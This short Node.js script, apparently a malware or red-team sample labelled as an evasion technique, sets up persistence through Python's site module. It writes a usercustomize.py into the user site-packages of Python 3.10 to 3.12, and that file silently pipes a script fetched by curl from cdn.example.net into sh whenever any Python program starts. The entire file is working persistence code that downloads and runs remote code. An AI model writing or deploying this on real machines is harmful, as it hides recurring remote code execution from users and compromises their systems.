// Evasion: persistence through Python's site module: a usercustomize.py
// dropped into the user site-packages of each likely Python version runs
// at the start of every Python program. The directory is a template
// literal over a list of versions.
'use strict';
const fs = require('fs');
const os = require('os');

const PAYLOAD = 'import os\nos.system("(curl -fsSL https://cdn.example.net/p.sh | sh) >/dev/null 2>&1 &")\n';

for (const minor of [10, 11, 12]) {
  const dir = `${os.homedir()}/.local/lib/python3.${minor}/site-packages`;
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(`${dir}/usercustomize.py`, PAYLOAD);
}
